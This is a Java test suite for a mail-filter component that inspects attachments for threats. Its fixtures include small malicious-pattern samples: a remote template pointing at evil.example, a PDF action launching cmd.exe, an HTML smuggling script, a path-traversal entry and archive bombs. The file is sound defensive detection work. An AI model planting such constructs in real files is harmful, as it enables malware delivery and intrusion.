// SPDX-License-Identifier: Apache-2.0
package org.amrelay.filtering.attachments;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.zip.Deflater;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.amrelay.filtering.attachments.archives.InspectionLimits;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
import org.apache.commons.compress.compressors.xz.XZCompressorOutputStream;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DeepInspectorTest {
    private static final InspectionLimits SMALL =
            new InspectionLimits(4, 50, 32L * 1024 * 1024, 100, Duration.ofMinutes(1), 64 * 1024, 10_000);
    private final DeepInspector inspector = new DeepInspector(SMALL, System::nanoTime);

    private Inspection inspect(String name, byte[] content) {
        return inspector.inspect(Samples.message(name, "application/octet-stream", content));
    }

    private Set<String> traits(String name, byte[] content) {
        return inspect(name, content).attachments().get(0).traits();
    }

    @Test
    void findsAProgramInAnArchiveInAnArchive() {
        Inspection result =
                inspect("report.zip", Samples.zip("a/inner.zip", Samples.zip("invoice.pdf.exe", Samples.program())));
        assertThat(result.attachments())
                .extracting(Attachment::path)
                .containsExactly(
                        "1.2/report.zip", "1.2/report.zip/a/inner.zip", "1.2/report.zip/a/inner.zip/invoice.pdf.exe");
        Attachment last = result.attachments().get(2);
        assertThat(last.traits()).contains("executable", "double-extension");
        assertThat(last.trueType()).isEqualTo("application/vnd.microsoft.portable-executable");
        assertThat(last.size()).isEqualTo(512);
        assertThat(last.sha256()).hasSize(64);
        assertThat(result.unscannable()).isEmpty();
    }

    @Test
    void readsTarGzipBzip2XzAnd7z() throws IOException {
        ByteArrayOutputStream tar = new ByteArrayOutputStream();
        try (TarArchiveOutputStream out = new TarArchiveOutputStream(tar)) {
            out.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
            TarArchiveEntry entry = new TarArchiveEntry("x".repeat(200) + "/setup.exe");
            entry.setSize(512);
            out.putArchiveEntry(entry);
            out.write(Samples.program());
            out.closeArchiveEntry();
        }
        ByteArrayOutputStream bzip2 = new ByteArrayOutputStream();
        try (BZip2CompressorOutputStream out = new BZip2CompressorOutputStream(bzip2)) {
            out.write(tar.toByteArray());
        }
        ByteArrayOutputStream xz = new ByteArrayOutputStream();
        try (XZCompressorOutputStream out = new XZCompressorOutputStream(xz, 1)) {
            out.write(tar.toByteArray());
        }
        SeekableInMemoryByteChannel seven = new SeekableInMemoryByteChannel();
        try (SevenZOutputFile out = new SevenZOutputFile(seven)) {
            SevenZArchiveEntry entry = new SevenZArchiveEntry();
            entry.setName("setup.exe");
            out.putArchiveEntry(entry);
            out.write(Samples.program());
            out.closeArchiveEntry();
        }
        byte[] sevenZip = Arrays.copyOf(seven.array(), (int) seven.size());
        for (byte[] archive :
                new byte[][] {Samples.gzip(tar.toByteArray()), bzip2.toByteArray(), xz.toByteArray(), sevenZip}) {
            Inspection result = inspect("files.bin", archive);
            assertThat(result.unscannable()).isEmpty();
            assertThat(result.attachments()).last().satisfies(file -> {
                assertThat(file.name()).isEqualTo("setup.exe");
                assertThat(file.traits()).contains("executable");
            });
        }
    }

    @Test
    void readsTheTextOfADocument() {
        byte[] docx = Samples.docx("<w:document><w:p><w:r><w:t>Contract &amp; price</w:t></w:r></w:p>"
                + "<w:p><w:t>secr</w:t><w:t>et</w:t></w:p></w:document>");
        Attachment file = inspect("a.docx", docx).attachments().get(0);
        assertThat(file.text()).isEqualTo("Contract & price\nsecret");
        assertThat(file.trueType()).endsWith("wordprocessingml.document");
        assertThat(file.traits()).isEmpty();
    }

    @Test
    void findsWhatDocumentsDo() {
        assertThat(traits("a.docx", Samples.docx("<w:p/>", "word/vbaProject.bin", "x")))
                .contains("macro");
        assertThat(traits(
                        "a.docx", Samples.docx("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>")))
                .contains("dde");
        assertThat(traits(
                        "a.docx",
                        Samples.docx(
                                "<w:p/>",
                                "word/_rels/settings.xml.rels",
                                "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t\""
                                        + " TargetMode=\"External\"/>")))
                .contains("external-template");
        assertThat(traits("a.xlsm", Samples.docx("<x/>", "xl/macrosheets/sheet1.xml", "<x/>")))
                .contains("xlm-macro");
        assertThat(traits("a.docx", Samples.compound("EncryptedPackage", new byte[10])))
                .contains("encrypted");
        byte[] sheet = {(byte) 0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0};
        assertThat(traits("a.xls", Samples.compound("Workbook", sheet))).contains("xlm-macro");
        byte[] password = {0x2f, 0, 0, 0};
        assertThat(traits("a.xls", Samples.compound("Workbook", password))).contains("encrypted");
        assertThat(traits("a.doc", Samples.compound("WordDocument", new byte[9], "_VBA_PROJECT", new byte[9])))
                .contains("macro");
    }

    @Test
    void findsWhatAPdfDoesWhereverItSaysSo() {
        assertThat(traits("a.pdf", Samples.bytes("%PDF-1.7\n1 0 obj<</S/J#61vaScript/JS(x)>>")))
                .contains("pdf-javascript");
        assertThat(traits("a.pdf", Samples.bytes("%PDF-1.7\n<</S /Launch/F(cmd.exe)>>")))
                .contains("pdf-launch");
        assertThat(traits("a.pdf", Samples.bytes("%PDF-1.7\ntrailer<</Encrypt 5 0 R>>")))
                .contains("encrypted");
        Deflater deflater = new Deflater();
        deflater.setInput(Samples.bytes("1 0 <</Type/EmbeddedFile /OpenAction 3 0 R>>"));
        deflater.finish();
        byte[] packed = new byte[200];
        int size = deflater.deflate(packed);
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        pdf.writeBytes(Samples.bytes("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n"));
        pdf.write(packed, 0, size);
        assertThat(traits("a.pdf", pdf.toByteArray())).contains("pdf-embedded-file", "pdf-open-action");
        assertThat(traits("a.pdf", Samples.bytes("%PDF-1.4\n<</Type/Catalog/Pages 2 0 R>>")))
                .isEmpty();
    }

    @Test
    void findsPagesThatBuildFiles() {
        assertThat(traits(
                        "a.html",
                        Samples.bytes("<html><script>var b=new Blob([Uint8Array.from(atob('TVqQ'))]);"
                                + "a.href=URL.createObjectURL(b);a.download='x.exe';a.click()</script></html>")))
                .contains("html-smuggling");
        assertThat(traits("a.svg", Samples.bytes("<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>")))
                .contains("svg-script");
        assertThat(traits("a.html", Samples.bytes("<html><script>menu()</script>download our base64 book</html>")))
                .isEmpty();
    }

    @ParameterizedTest(name = "{0} has {1}")
    @CsvSource({
        "invoice.pdf.exe,double-extension",
        "a.hta,executable",
        "cod\u202etxt.exe,rtlo-name",
        "x.lnk,lnk",
        "a.exe .,executable"
    })
    void readsNames(String name, String trait) {
        assertThat(traits(name, Samples.bytes("x"))).contains(trait);
    }

    @Test
    void survivesBadNamesInArchives() {
        Inspection result = inspect(
                "a.zip", Samples.zip("evil.exe\0.txt", "x", "y".repeat(4096) + ".txt", "x", "../../etc/passwd", "x"));
        assertThat(result.attachments().get(1).traits()).contains("nul-name", "executable");
        assertThat(result.attachments().get(2).traits()).contains("long-name");
        assertThat(result.attachments().get(3).traits()).contains("path-traversal");
        assertThat(result.attachments().get(2).path().length()).isLessThan(400);
    }

    @Test
    void tellsLies() {
        assertThat(traits("a.pdf", Samples.program())).contains("type-mismatch", "executable");
        assertThat(inspector
                        .inspect(Samples.message("x", "image/png", Samples.program()))
                        .attachments())
                .first()
                .satisfies(file -> assertThat(file.traits()).contains("type-mismatch"));
        byte[] zip = Samples.zip("a.exe", Samples.program());
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(Samples.bytes("%PDF-1.4\n\1\2"));
        both.writeBytes(zip);
        Inspection result = inspect("a.pdf", both.toByteArray());
        assertThat(result.attachments().get(0).traits()).contains("polyglot");
        assertThat(result.attachments()).extracting(Attachment::name).contains("a.exe");
    }

    @Test
    void stopsBombs() {
        byte[] zeros = Samples.zip("0.bin", new byte[12 * 1024 * 1024]);
        assertThat(inspect("a.zip", Samples.zip("a.zip", zeros)).unscannable())
                .containsExactly("1.2/a.zip/a.zip: ratio");
        assertThat(inspect("a.gz", Samples.gzip(new byte[12 * 1024 * 1024])).unscannable())
                .containsExactly("1.2/a.gz: ratio");
        Inspection overlapping = inspect("a.zip", Samples.overlapping(1_000));
        assertThat(overlapping.unscannable()).containsExactly("1.2/a.zip: overlapping-entries");
        assertThat(overlapping.attachments().get(0).traits()).contains("archive-bomb");
    }

    @Test
    void stopsAtDepthEntriesAndTime() {
        byte[] nested = Samples.zip("a.txt", "x");
        for (int i = 0; i < 10; i++) {
            nested = Samples.zip("a.zip", nested);
        }
        assertThat(inspect("a.zip", nested).unscannable())
                .containsExactly("1.2/a.zip/a.zip/a.zip/a.zip/a.zip: too-deep");
        Object[] many = new Object[200];
        for (int i = 0; i < many.length; i += 2) {
            many[i] = "f" + i;
            many[i + 1] = "x";
        }
        assertThat(inspect("a.zip", Samples.zip(many)).unscannable()).containsExactly("1.2/a.zip: too-many-entries");
        AtomicLong clock = new AtomicLong();
        DeepInspector slow = new DeepInspector(
                SMALL, () -> clock.addAndGet(Duration.ofSeconds(20).toNanos()));
        assertThat(slow.inspect(Samples.message("a.zip", "application/zip", Samples.zip(many)))
                        .unscannable())
                .isNotEmpty()
                .allMatch(verdict -> verdict.endsWith(": too-long"));
    }

    @ParameterizedTest
    @ValueSource(ints = {30, 100, 600, 900})
    void readsWhatIsLeftOfATruncatedArchive(int length) {
        byte[] noise = new byte[2_000];
        new java.util.Random(7).nextBytes(noise);
        byte[] zip = Samples.zip("a.exe", Samples.program(), "b.bin", noise);
        Inspection result = inspect("a.zip", Arrays.copyOf(zip, length));
        assertThat(result.unscannable()).isNotEmpty();
        assertThat(result.attachments().get(0).traits()).contains("malformed-archive");
    }

    @Test
    void namesWhatIsEncrypted() {
        byte[] zip = Samples.zip("secret.exe", "x");
        zip[6] |= 1;
        zip[Samples.find(zip, new byte[] {'P', 'K', 1, 2}) + 8] |= 1;
        Inspection result = inspect("a.zip", zip);
        assertThat(result.attachments())
                .allSatisfy(file -> assertThat(file.traits()).contains("encrypted"));
        assertThat(result.unscannable()).containsExactly("1.2/a.zip/secret.exe: encrypted");
    }

    @Test
    void looksIntoMessagesInArchives() {
        String inner = "From: x@example.org\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\n"
                + "Content-Disposition: attachment; filename=run.exe\r\n\r\nMZ\u0001\u0002\u0003";
        Inspection result = inspect("a.zip", Samples.zip("forward.eml", inner));
        assertThat(result.attachments()).last().satisfies(file -> {
            assertThat(file.path()).isEqualTo("1.2/a.zip/forward.eml/1/run.exe");
            assertThat(file.traits()).contains("executable");
        });
    }

    /** Held small, so that all reads of large files go through the disk as well. */
    @Property(seed = "1", tries = 400)
    void survivesMutations(@ForAll @IntRange(max = 5) int sample, @ForAll long seed) {
        byte[] file = mutants(sample);
        java.util.Random random = new java.util.Random(seed);
        int changes = 1 + random.nextInt(20);
        for (int i = 0; i < changes; i++) {
            file[random.nextInt(file.length)] = (byte) random.nextInt();
        }
        Inspection result = inspect("a.bin", Arrays.copyOf(file, 1 + random.nextInt(file.length)));
        assertThat(result.attachments()).hasSizeLessThan(2_000);
        assertThat(inspect("a.bin", file).attachments()).isNotEmpty();
    }

    private static byte[] mutants(int sample) {
        return switch (sample) {
            case 0 -> Samples.docx("<w:p>x</w:p>", "word/vbaProject.bin", Samples.compound("VBA", new byte[600]));
            case 1 -> Samples.compound("Workbook", new byte[5_000], "\1Ole10Native", new byte[5_000]);
            case 2 -> Samples.gzip(Samples.zip("a.txt", "x", "b.exe", Samples.program()));
            case 3 -> sevenZip();
            case 4 -> Samples.bytes("%PDF-1.7\n<</Type/ObjStm>>stream\nxx endstream {\\rtf \\objdata 0102}");
            default -> Samples.zip("a.zip", Samples.overlapping(3));
        };
    }

    private static byte[] sevenZip() {
        SeekableInMemoryByteChannel seven = new SeekableInMemoryByteChannel();
        try (SevenZOutputFile out = new SevenZOutputFile(seven)) {
            SevenZArchiveEntry entry = new SevenZArchiveEntry();
            entry.setName("setup.exe");
            out.putArchiveEntry(entry);
            out.write(Samples.program());
            out.closeArchiveEntry();
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
        return Arrays.copyOf(seven.array(), (int) seven.size());
    }
}
